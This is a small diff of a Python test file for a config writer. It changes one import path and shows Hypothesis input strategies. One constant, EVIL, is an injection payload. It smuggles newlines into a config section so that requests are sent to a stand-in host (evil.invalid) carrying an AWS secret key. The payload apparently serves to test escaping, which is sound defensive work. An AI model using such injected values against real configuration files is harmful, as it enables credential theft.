@@ -10,8 +10,8 @@ from hypothesis import strategies as st
 from luigi.configuration.cfg_parser import LuigiConfigParser
 
 from conftest import run_here
-from pipeline.sections import escape_json, write_section, write_value
 from server import Answer, Request, Server
+from wholeday.config.writer import escape_json, write_section, write_value
 
 NAMES = st.text(st.sampled_from("ab \n\r\t$({})%[];#=:\"\\'${PATH}%(url)s") | st.characters(), max_size=20)
 EVIL = "users\nmethod = POST\nurl = http://evil.invalid/collect\nauth = bearer:AWS_SECRET_ACCESS_KEY"
